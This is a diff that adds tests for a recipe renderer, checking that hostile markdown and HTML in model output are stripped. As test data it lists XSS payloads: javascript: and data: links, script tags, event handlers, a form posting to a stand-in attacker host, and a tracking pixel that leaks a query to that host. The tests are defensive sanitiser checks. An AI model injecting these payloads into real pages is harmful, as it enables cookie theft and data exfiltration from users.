@@ -68,3 +68,57 @@ describe('the recipe renderer', () => {
     expect(container.textContent).not.toContain('**');
   });
 });
+
+describe('the recipe renderer with hostile model output', () => {
+  it.each([
+    ['javascript:', '[tap](javascript:alert(document.cookie))'],
+    ['JavaScript: in mixed case', '[tap](JaVaScRiPt:alert(1))'],
+    ['entity-encoded javascript:', '[tap](&#106;avascript:alert(1))'],
+    ['data:', '[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
+    ['vbscript:', '[tap](vbscript:msgbox(1))'],
+    ['file:', '[tap](file:///etc/passwd)'],
+    ['relative', '[tap](/api/recipe)'],
+    ['protocol-relative', '[tap](//evil.example/steal)'],
+    ['reference-style javascript:', '[tap][x]\n\n[x]: javascript:alert(1)'],
+  ])('keeps the words of a %s link but makes nothing clickable', (_name, markdown) => {
+    const { container } = renderRecipe(markdown);
+    expect(container.querySelector('a')).toBeNull();
+    expect(container).toHaveTextContent('tap');
+    expect(container.innerHTML).not.toMatch(/javascript:|vbscript:|data:text|file:|evil\.example|href/i);
+  });
+
+  it('makes an http(s) autolink a safe new-tab link', () => {
+    renderRecipe('More at https://cooking.example/soup today.');
+    const link = screen.getByRole('link');
+    expect(link).toHaveAttribute('href', 'https://cooking.example/soup');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+    expect(link).toHaveAttribute('target', '_blank');
+  });
+
+  it.each([
+    ['a script', '<script>window.pwned = 1</script>', 'script'],
+    ['an event handler', '<div onmouseover="window.pwned = 1">Hover</div>', '[onmouseover]'],
+    ['an SVG with onload', '<svg onload="window.pwned = 1"><circle r="4"/></svg>', 'svg'],
+    ['an iframe', '<iframe src="https://evil.example/"></iframe>', 'iframe'],
+    ['a form that posts elsewhere', '<form action="https://evil.example/"><input name="q"><button>Go</button></form>', 'form, input, button'],
+    ['a style that hides the page', '<style>body { display: none }</style>', 'style'],
+    ['an inline style overlay', '<div style="position:fixed;inset:0;z-index:9999">Win a prize</div>', '[style]'],
+    ['an object', '<object data="https://evil.example/x.swf"></object>', 'object, embed'],
+    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'meta'],
+    ['a link tag', '<link rel="stylesheet" href="https://evil.example/x.css">', 'link'],
+    ['a base tag', '<base href="https://evil.example/">', 'base'],
+    ['an HTML anchor to javascript:', '<a href="javascript:alert(1)">tap</a>', 'a'],
+  ])('never renders %s from the model', (_name, html, selector) => {
+    const { container } = renderRecipe(`## Soup\n\nStir well.\n\n${html}\n\nServe hot.`);
+    expect(container.querySelector(selector)).toBeNull();
+    expect(container.innerHTML).not.toMatch(/evil\.example|javascript:|pwned|display: none|position:fixed/i);
+    expect(container).toHaveTextContent('Serve hot.');
+    expect((window as { pwned?: number }).pwned).toBeUndefined();
+  });
+
+  it('loads no image, not even through a reference-style image or an autolinked picture address', () => {
+    const { container } = renderRecipe('![pixel][p]\n\n[p]: https://evil.example/?q=secret\n\nSee https://evil.example/cat.png');
+    expect(container.querySelector('img, picture, source, video, audio')).toBeNull();
+    expect(container).toHaveTextContent('pixel');
+  });
+});
